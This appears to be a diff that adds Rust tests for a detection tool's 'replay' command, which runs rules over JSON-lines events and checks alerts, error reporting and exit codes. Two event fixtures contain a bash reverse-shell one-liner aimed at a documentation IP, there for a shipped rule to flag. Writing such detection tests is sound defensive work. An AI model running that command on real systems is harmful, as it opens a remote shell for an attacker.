@@ -1,0 +1,115 @@
+//! `lanner replay`: rules against lines of events.
+
+use std::io::Cursor;
+use std::path::Path;
+
+use lanner::cli::replay::{Counts, Replay, ReplayArgs};
+use lanner::cli::rules::Format;
+use lanner::detect::{self, RuleSet, Schema, Source, shipped};
+
+use super::declared;
+
+struct Outcome {
+    counts: Counts,
+    alerts: Vec<serde_json::Value>,
+    errors: String,
+}
+
+fn replay(set: &RuleSet, open: bool, lines: &[u8]) -> Outcome {
+    let (mut out, mut errors) = (Vec::new(), Vec::new());
+    let replay = Replay { set, open, format: Format::Json, name: Path::new("events.jsonl") };
+    let counts = replay.all(&mut Cursor::new(lines), &mut out, &mut errors).expect("memory takes all");
+    let alerts = String::from_utf8(out).expect("alerts are text");
+    let alerts = alerts.lines().map(|line| serde_json::from_str(line).expect("alerts are JSON")).collect();
+    Outcome { counts, alerts, errors: String::from_utf8(errors).expect("messages are text") }
+}
+
+fn foreign(rule: &str) -> RuleSet {
+    detect::load(&[Source::new("rule.yml", rule)], &Schema::open()).unwrap_or_else(|found| panic!("{}", found[0]))
+}
+
+const RULE: &str = "title: Odd parent\nid: 6f3c2a5e-0000-4000-8000-000000000001\nlevel: high\n\
+    tags: [attack.t1059, atlas.aml.t0050]\nlogsource: {product: windows}\n\
+    detection: {s: {process.parent.name: node}, condition: s}\n";
+
+#[test]
+fn foreign_rules_meet_foreign_events() {
+    let lines = b"{\"process\": {\"parent\": {\"name\": \"NODE\"}}}\n\n{\"process.parent.name\": \"bash\"}\r\n{\"process.parent.name\": [\"x\", \"node\"]}";
+    let outcome = replay(&foreign(RULE), true, lines);
+    assert_eq!(outcome.counts, Counts { events: 3, alerts: 2, unreadable: 0 });
+    let expected = serde_json::json!({
+        "event_index": 0, "rule": "6f3c2a5e-0000-4000-8000-000000000001", "title": "Odd parent", "severity": "high",
+        "atlas": ["AML.T0050"]
+    });
+    assert_eq!(outcome.alerts[0], expected);
+    // An empty line is a line: indexes stay those of the file.
+    assert_eq!(outcome.alerts[1]["event_index"], 3);
+}
+
+#[test]
+fn rules_without_an_id_go_by_their_title() {
+    let set = foreign("title: T\nlogsource: {category: c}\ndetection: {s: {f: 1}, condition: s}\n");
+    let outcome = replay(&set, true, b"{\"f\": 1}\n");
+    assert_eq!(outcome.alerts[0]["rule"], "T");
+    assert_eq!(outcome.alerts[0]["severity"], "medium");
+}
+
+#[test]
+fn our_events_choose_their_rules_by_category() {
+    let set = detect::load(&shipped::sources(), &declared()).unwrap();
+    let lines = [
+        r#"{"event.category": "training_log", "event.dataset": "kubernetes", "log.line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}"#,
+        r#"{"event.category": "model_registry", "log.line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}"#,
+        r#"{"event.category": "model_registry", "event.action": "artifact.tampered", "@timestamp": "2026-11-22T18:00:00Z"}"#,
+    ];
+    let outcome = replay(&set, false, lines.join("\n").as_bytes());
+    let rules: Vec<_> =
+        outcome.alerts.iter().map(|alert| (alert["event_index"].as_u64(), alert["rule"].as_str())).collect();
+    assert_eq!(rules, [(Some(0), Some("TRN-004")), (Some(2), Some("REG-001"))]);
+    assert_eq!(outcome.counts.unreadable, 0);
+}
+
+#[test]
+fn bad_lines_are_reported_and_the_others_go_on() {
+    let set = detect::load(&shipped::sources(), &declared()).unwrap();
+    let lines = b"not json\n[1]\n{\"f\": 1}\n{\"event.category\": \"weather\"}\n\xff\xfe\n{\"event.category\": \"model_registry\", \"event.action\": \"artifact.tampered\"}\n";
+    let outcome = replay(&set, false, lines);
+    assert_eq!(outcome.counts, Counts { events: 1, alerts: 1, unreadable: 5 });
+    assert_eq!(outcome.alerts[0]["event_index"], 5);
+    for (line, reason) in
+        [(1, "no JSON"), (2, "an event is a JSON object"), (3, "--open-schema"), (4, "`weather`"), (5, "no JSON")]
+    {
+        let place = format!("events.jsonl:{line}: ");
+        let found = outcome.errors.lines().find(|error| error.starts_with(&place));
+        assert!(found.is_some_and(|error| error.contains(reason)), "{place}{reason} in\n{}", outcome.errors);
+    }
+}
+
+#[test]
+fn lines_that_are_too_long_are_reported_not_kept() {
+    let set = foreign(RULE);
+    let mut lines = vec![b'x'; (16 << 20) + 1];
+    lines.extend_from_slice(b"\n{\"process.parent.name\": \"node\"}\n");
+    let outcome = replay(&set, true, &lines);
+    assert_eq!(outcome.counts, Counts { events: 1, alerts: 1, unreadable: 1 });
+    assert!(outcome.errors.contains("events.jsonl:1: the line is longer than"));
+}
+
+#[test]
+fn the_verb_ends_with_3_for_a_rule_that_does_not_load() {
+    let folder = tempfile::tempdir().unwrap();
+    let (rule, events) = (folder.path().join("rule.yml"), folder.path().join("events.jsonl"));
+    let run = |text: &str| {
+        std::fs::write(&rule, text).unwrap();
+        std::fs::write(&events, "{\"f\": 1}\n").unwrap();
+        let args =
+            ReplayArgs { rules: vec![rule.clone()], open_schema: true, format: Format::Json, events: events.clone() };
+        lanner::cli::replay::run(&args).map(|code| format!("{code:?}"))
+    };
+    let code = |number: u8| format!("{:?}", std::process::ExitCode::from(number));
+    assert_eq!(run("title: T\n").unwrap(), code(3));
+    assert_eq!(run(RULE).unwrap(), code(0));
+    std::fs::remove_file(&rule).unwrap();
+    let args = ReplayArgs { rules: vec![rule], open_schema: true, format: Format::Json, events };
+    assert!(lanner::cli::replay::run(&args).is_err());
+}
